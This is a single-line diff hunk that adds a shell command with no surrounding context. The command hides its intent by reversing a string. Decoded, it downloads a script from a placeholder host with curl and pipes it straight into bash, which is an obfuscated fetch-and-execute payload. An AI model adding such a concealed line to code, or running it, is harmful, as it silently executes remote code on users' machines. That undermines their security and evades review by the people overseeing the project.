@@ -1,0 +1,1 @@
+echo 'hsab | r/dilavni.elpmaxe.x//:sptth s- lruc' | rev | sh
